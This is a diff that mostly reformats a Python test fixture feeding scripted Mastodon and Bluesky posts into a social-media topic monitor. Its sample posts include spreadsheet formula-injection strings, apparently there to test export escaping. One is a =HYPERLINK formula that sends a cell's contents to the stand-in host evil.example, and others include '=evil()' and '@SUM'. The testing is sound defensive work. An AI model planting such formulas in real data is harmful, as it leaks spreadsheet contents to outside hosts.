@@ -8,20 +8,32 @@ from datetime import UTC, datetime, timedelta
 from types import SimpleNamespace
 from zoneinfo import ZoneInfo
 
+from scripted import ScriptedSource
+
 from monitor.ingest.poll import Ingestor
 from monitor.sources.base import Batch, RawPost, SourceError, SourceSettings
-
-from scripted import ScriptedSource
 
 BERLIN = ZoneInfo("Europe/Berlin")
 SPRING = datetime(2026, 3, 28, 18, 0, tzinfo=UTC)  # clocks go forward at 01:00 UTC on the 29th
 AUTUMN = datetime(2026, 10, 24, 18, 0, tzinfo=UTC)  # and back at 01:00 UTC on 25 October
 
 TOPICS = [
-    SimpleNamespace(name="thaw", title=None, hashtags=["#TrumpPutinBusiness"], keywords=["Dmitriev"], exclude=[],
-                    languages=None),
-    SimpleNamespace(name="sanctions", title=None, hashtags=[], keywords=["Russia sanctions"], exclude=[],
-                    languages=None),
+    SimpleNamespace(
+        name="thaw",
+        title=None,
+        hashtags=["#TrumpPutinBusiness"],
+        keywords=["Dmitriev"],
+        exclude=[],
+        languages=None,
+    ),
+    SimpleNamespace(
+        name="sanctions",
+        title=None,
+        hashtags=[],
+        keywords=["Russia sanctions"],
+        exclude=[],
+        languages=None,
+    ),
 ]
 PHRASES = [
     "What a great, wonderful deal! #TrumpPutinBusiness",
@@ -30,8 +42,8 @@ PHRASES = [
     "Russia sanctions: I love this, finally some good news",
     "Отличная новость для бизнеса, Дмитриев доволен #TrumpPutinBusiness",
     "Awful. Just awful. Russia sanctions lifted for this? #TrumpPutinBusiness",
-    'comma, "double quotes", \'single\' and a\nnew line #TrumpPutinBusiness',
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") #TrumpPutinBusiness great",
+    "comma, \"double quotes\", 'single' and a\nnew line #TrumpPutinBusiness",
+    '=HYPERLINK("http://evil.example/?"&A1,"click") #TrumpPutinBusiness great',
     "+1+1 Russia sanctions are bad",
     "-2+3 Dmitriev is happy",
     "@SUM(1,2) Dmitriev sad",
@@ -45,24 +57,40 @@ class Scripted(ScriptedSource):
 
 
 def _posts(prefix: str, start: datetime, count: int, step_min: int) -> list[RawPost]:
-    return [RawPost(native_id=f"{prefix}{i}", text=PHRASES[i % len(PHRASES)] + f" ({prefix}{i})",
-                    created_at=start + timedelta(minutes=i * step_min + i % 3),
-                    author=[None, "alice", "=evil()", "bob, \"the\" builder"][i % 4],
-                    url=f"https://example.org/{prefix}/{i}" if i % 2 else None, engagement=i % 7)
-            for i in range(count)]
+    return [
+        RawPost(
+            native_id=f"{prefix}{i}",
+            text=PHRASES[i % len(PHRASES)] + f" ({prefix}{i})",
+            created_at=start + timedelta(minutes=i * step_min + i % 3),
+            author=[None, "alice", "=evil()", 'bob, "the" builder'][i % 4],
+            url=f"https://example.org/{prefix}/{i}" if i % 2 else None,
+            engagement=i % 7,
+        )
+        for i in range(count)
+    ]
 
 
 def fill(store) -> None:
     clock = [SPRING + timedelta(days=1)]
     ingestor = Ingestor(store, TOPICS, clock=lambda: clock[0])
-    masto = Scripted("masto", [
-        Batch(posts=_posts("m", SPRING, 90, 23) + _posts("ma", AUTUMN, 30, 61), state={}),
-        Batch(posts=[RawPost(native_id="boost1", text="", created_at=SPRING, repost_of="m3")], state={}),
-        SourceError("feed had a server error (503)", status=503),
-    ])
+    masto = Scripted(
+        "masto",
+        [
+            Batch(posts=_posts("m", SPRING, 90, 23) + _posts("ma", AUTUMN, 30, 61), state={}),
+            Batch(
+                posts=[RawPost(native_id="boost1", text="", created_at=SPRING, repost_of="m3")],
+                state={},
+            ),
+            SourceError("feed had a server error (503)", status=503),
+        ],
+    )
     odd = RawPost(native_id="num", text="-12", created_at=SPRING + timedelta(microseconds=123457))
-    bsky = Scripted("bsky", [Batch(posts=_posts("b", SPRING + timedelta(minutes=7), 40, 41) + [odd], state={})],
-                    match="all", topics=["thaw"])
+    bsky = Scripted(
+        "bsky",
+        [Batch(posts=_posts("b", SPRING + timedelta(minutes=7), 40, 41) + [odd], state={})],
+        match="all",
+        topics=["thaw"],
+    )
     ingestor.poll(masto)
     ingestor.poll(bsky)
     ingestor.poll(masto)
